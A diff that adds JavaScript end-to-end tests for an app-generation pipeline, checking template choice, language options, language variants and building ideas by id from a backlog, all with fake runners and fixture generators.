+    const runner = createFakeRunner();
+    const { generator, modes } = createRecordingGenerator();
+    const result = await runGenerate({}, { generator, runCommand: runner.runCommand });
+
+    assert.deepEqual(runner.calls, []);
+    assert.equal(modes[0].template, 'single-html');
+    await assert.rejects(fs.access(path.join(result.outDir, 'package.json')));
+    const html = await fs.readFile(path.join(result.outDir, 'dist', 'index.html'), 'utf8');
+    assert.match(html, /<div id="app"><\/div>/);
+
+    const build = JSON.parse(await fs.readFile(path.join(result.outDir, 'build.json'), 'utf8'));
+    assert.equal(build.template, 'single-html');
+    const smoke = JSON.parse(await fs.readFile(path.join(result.outDir, 'smoke.json'), 'utf8'));
+    assert.equal(smoke.status, 'passed');
+    assert.equal(smoke.selector, '#app');
+    const success = (await readEvents('build.success')).find(e => e.runId === result.runId);
+    assert.equal(success.template, 'single-html');
+    assert.equal(success.installCache, 'none');
+  });
+
+  it('should pick the canvas template for a game idea and hand it its spec', async () => {
+    await seed({ id: 'idea_e2e_tpl_2', title: 'Brick Breaker', scenario: 'A lunch-break game.', form: 'game' });
+    const runner = createFakeRunner();
+    const { generator, modes } = createRecordingGenerator();
+    const result = await runGenerate({}, { generator, runCommand: runner.runCommand });
+
+    assert.equal(modes[0].template, 'vanilla-canvas');
+    assert.match(modes[0].prompt, /TypeScript canvas game\/app/);
+    assert.match(modes[0].prompt, /Canvas 2D API/);
+    assert.equal(path.basename(modes[0].specPath), 'DAILY_SPEC.vanilla-canvas.md');
+    assert.match(await fs.readFile(modes[0].specPath, 'utf8'), /## Stack: Vanilla TS \+ Canvas/);
+
+    const log = await fs.readFile(path.join(ROOT, 'runtime', 'logs', `${result.outId}-generate.log`), 'utf8');
+    assert.match(log, /Template: vanilla-canvas \(from form\)/);
+  });
+
+  it('should scaffold the template when the generator writes no package.json', async () => {
+    await seed({ id: 'idea_e2e_tpl_3', title: 'Svelte Notes', scenario: 'Quick notes.', stack: 'svelte' });
+    const runner = createFakeRunner();
+    const generator = {
+      name: 'fixture',
+      async generate({ outDir }) {
+        await fs.mkdir(path.join(outDir, 'src'), { recursive: true });
+        await fs.writeFile(path.join(outDir, 'src', 'main.js'), 'void 0;');
+        await fs.writeFile(path.join(outDir, 'README.md'), '# Svelte Notes\n\n## Scenario\n\nQuick notes.\n');
+        return { files: null, usage: null };
+      },
+    };
+    const result = await runGenerate({}, { generator, runCommand: runner.runCommand });
+
+    const pkg = JSON.parse(await fs.readFile(path.join(result.outDir, 'package.json'), 'utf8'));
+    assert.ok(pkg.devDependencies.svelte);
+    await fs.access(path.join(result.outDir, 'vite.config.js'));
+    assert.deepEqual(runner.calls, ['npm install --ignore-scripts', 'npm run build -- --base ./']);
+  });
+
+  it('should let --template override the idea', async () => {
+    await seed({ id: 'idea_e2e_tpl_4', title: 'Override', scenario: 'x', stack: 'svelte' });
+    const runner = createFakeRunner();
+    const { generator, modes } = createRecordingGenerator();
+    await runGenerate({ template: 'preact' }, { generator, runCommand: runner.runCommand });
+    assert.equal(modes[0].template, 'preact');
+  });
+});
+
+describe('runGenerate (language)', () => {
+  it('should build in the idea language and record it in build.json', async () => {
+    await seed({ id: 'idea_e2e_lang_1', title: 'Habit Grid', scenario: 'Track habits.', lang: 'EN' });
+    const runner = createFakeRunner();
+    const { generator, modes } = createRecordingGenerator();
+    const result = await runGenerate({}, { generator, runCommand: runner.runCommand });
+
+    assert.equal(modes[0].lang, 'en');
+    assert.match(modes[0].prompt, /Use en for ALL UI and content/);
+    assert.match(modes[0].prompt, /README\.md file .*written in en/);
+    const build = JSON.parse(await fs.readFile(path.join(result.outDir, 'build.json'), 'utf8'));
+    assert.equal(build.language, 'en');
+    const html = await fs.readFile(path.join(result.outDir, 'index.html'), 'utf8');
+    assert.match(html, /<html lang="en">/);
+  });
+
+  it('should let --lang override the idea language', async () => {
+    await seed({ id: 'idea_e2e_lang_2', title: 'Habit Grid', scenario: 'Track habits.', lang: 'en' });
+    const runner = createFakeRunner();
+    const { generator, modes } = createRecordingGenerator();
+    const result = await runGenerate({ lang: 'zh' }, { generator, runCommand: runner.runCommand });
+
+    assert.equal(modes[0].lang, 'zh-CN');
+    const build = JSON.parse(await fs.readFile(path.join(result.outDir, 'build.json'), 'utf8'));
+    assert.equal(build.language, 'zh-CN');
+  });
+});
+
+describe('runGenerate (language variant)', () => {
+  const original = '/2026-01-01-habit-grid/dist/index.html';
+  const idea = { id: 'idea_e2e_variant', title: 'Habit Grid', scenario: 'Track habits.', lang: 'zh-CN' };
+
+  async function seedImplemented(extra = {}) {
+    await fs.mkdir(DATA, { recursive: true });
+    await fs.writeFile(path.join(DATA, 'idea_backlog.json'), JSON.stringify({
+      ideas: [{ ...idea, status: 'implemented', link: original, failures: 2, ...extra }],
+    }));
+  }
+
+  it('should add the output as a language variant and keep the original link', async () => {
+    await seedImplemented({ langVariants: [{ lang: 'en', link: '/old-en/dist/index.html', implementedAt: 1 }] });
+    const res = await runGenerate({ ideaId: idea.id, lang: 'en', langVariant: true }, { generator: createFixtureGenerator(), runCommand: createFakeRunner().runCommand });
+
+    const [item] = (await readJson('idea_backlog.json')).ideas;
+    assert.equal(item.status, 'implemented');
+    assert.equal(item.link, original);
+    assert.deepEqual(item.langVariants.map(v => [v.lang, v.link]), [['en', `/${res.outId}/dist/index.html`]]);
+    const build = JSON.parse(await fs.readFile(path.join(res.outDir, 'build.json'), 'utf8'));
+    assert.equal(build.language, 'en');
+  });
+
+  it('should keep the status and link of an idea that is not implemented yet', async () => {
+    await seedImplemented({ status: 'new', link: undefined });
+    const res = await runGenerate({ ideaId: idea.id, lang: 'en', langVariant: true }, { generator: createFixtureGenerator(), runCommand: createFakeRunner().runCommand });
+
+    const [item] = (await readJson('idea_backlog.json')).ideas;
+    assert.equal(item.status, 'new');
+    assert.equal(item.link, undefined);
+    assert.equal(item.implementedAt, undefined);
+    assert.deepEqual(item.langVariants.map(v => [v.lang, v.link]), [['en', `/${res.outId}/dist/index.html`]]);
+  });
+
+  it('should leave the idea implemented and its failures uncounted when the build fails', async () => {
+    await seedImplemented();
+    await assert.rejects(
+      runGenerate({ ideaId: idea.id, lang: 'en', langVariant: true, repairAttempts: 0 }, { generator: createFixtureGenerator(), runCommand: createFakeRunner({ failOn: 'build' }).runCommand }),
+      /exited 1/,
+    );
+    const [item] = (await readJson('idea_backlog.json')).ideas;
+    assert.equal(item.status, 'implemented');
+    assert.equal(item.link, original);
+    assert.equal(item.failures, 2);
+    assert.equal(item.lastFailedOutId, undefined);
+  });
+
+  it('should still count the failure of a normal rebuild', async () => {
+    await seedImplemented();
+    await assert.rejects(
+      runGenerate({ ideaId: idea.id, lang: 'en', repairAttempts: 0 }, { generator: createFixtureGenerator(), runCommand: createFakeRunner({ failOn: 'build' }).runCommand }),
+      /exited 1/,
+    );
+    const [item] = (await readJson('idea_backlog.json')).ideas;
+    assert.equal(item.failures, 3);
+    assert.notEqual(item.status, 'implemented');
+  });
+});
+
+describe('runGenerate (build by idea id)', () => {
+  const queued = { id: 'idea_e2e_queued', title: 'Queued Idea', scenario: 'Waits in the queue.' };
+  const target = { id: 'idea_e2e_direct', title: 'Direct Idea', scenario: 'Built by id.' };
+
+  async function seedBacklog(...ideas) {
+    await fs.mkdir(DATA, { recursive: true });
+    await fs.writeFile(path.join(DATA, 'idea_backlog.json'), JSON.stringify({ ideas: ideas.map(i => ({ ...i, status: 'new' })) }));
+    await fs.writeFile(path.join(DATA, 'idea_queue.json'), JSON.stringify({ idea: queued }));
+  }
+
+  it('should build the requested idea and leave the queue alone', async () => {
+    await seedBacklog(queued, target);
+    const res = await runGenerate({ ideaId: target.id }, { generator: createFixtureGenerator(), runCommand: createFakeRunner().runCommand });
+
+    assert.equal(res.ideaId, target.id);
+    assert.match(res.outId, /-direct-idea-[0-9a-f]{6}$/);
+    assert.deepEqual(successResult(res), { ok: true, status: 'complete', runId: res.runId, outId: res.outId, ideaId: target.id, title: 'Direct Idea' });
+
+    const backlog = await readJson('idea_backlog.json');
+    assert.deepEqual(backlog.ideas.map(i => i.status), ['new', 'implemented']);
+    assert.equal((await readJson('idea_queue.json')).idea.id, queued.id);
+  });
+
+  it('should build an inline idea', async () => {
+    await seedBacklog(queued);
+    const res = await runGenerate({ idea: { title: 'Inline Idea', scenario: 'Passed as JSON.' } }, { generator: createFixtureGenerator(), runCommand: createFakeRunner().runCommand });
+    assert.equal(res.title, 'Inline Idea');
+    assert.equal((await readJson('idea_queue.json')).idea.id, queued.id);
+  });
+
+  it('should tag a failed build with its run, output and category', async () => {
+    await seedBacklog(target);
+    const runner = createFakeRunner({ failOn: 'build' });
+    const err = await runGenerate({ ideaId: target.id, repairAttempts: 0, runId: 'run-e2e-direct-fail' }, { generator: createFixtureGenerator(), runCommand: runner.runCommand })
+      .then(() => null, e => e);
+
+    const result = failureResult(err);
+    assert.equal(result.ok, false);
+    assert.equal(result.status, 'failed');
+    assert.equal(result.runId, 'run-e2e-direct-fail');
+    assert.equal(result.ideaId, target.id);
+    assert.equal(result.category, 'vite_build_error');
+    assert.match(result.outId, /-direct-idea-[0-9a-f]{6}$/);
+    assert.equal((await readJson('idea_backlog.json')).ideas[0].status, 'new');
+    assert.equal((await readJson('idea_queue.json')).idea.id, queued.id);
+  });
+
+  it('should reject an unknown idea id and record the run as failed', async () => {
+    await seedBacklog(queued);
+    await assert.rejects(
+      runGenerate({ ideaId: 'idea_missing', runId: 'run-e2e-missing' }, { generator: createFixtureGenerator(), runCommand: createFakeRunner().runCommand }),
+      /Idea idea_missing not found in backlog/,
+    );
+    const s = await readStatus('run-e2e-missing');
+    assert.equal(s.status, 'error');
+  });
+});